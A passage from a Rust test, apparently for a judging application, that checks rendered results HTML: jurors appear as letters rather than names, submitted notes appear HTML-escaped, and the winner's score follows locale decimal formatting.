        assert!(h.contains(T::WinFeedbackPanel.get(lang)));
        assert!(h.contains(&T::WinJurorLetter.fill(lang, &["A"])));
        for j in &s.jurors {
            assert!(!h.contains(&j.name), "{} named", j.name);
        }
        // Every note of a submitted sheet is there, under a letter.
        for sh in s.scores.iter().filter(|x| x.is_submitted()) {
            for n in sh.notes.values() {
                let escaped = n
                    .replace('&', "&amp;")
                    .replace('<', "&lt;")
                    .replace('\'', "&#39;");
                assert!(h.contains(&escaped), "{n}");
            }
        }
        // The winner's score, in the locale's decimals.
        assert!(h.contains(if lang == Lang::Id { "89,85" } else { "89.85" }));
    }
}
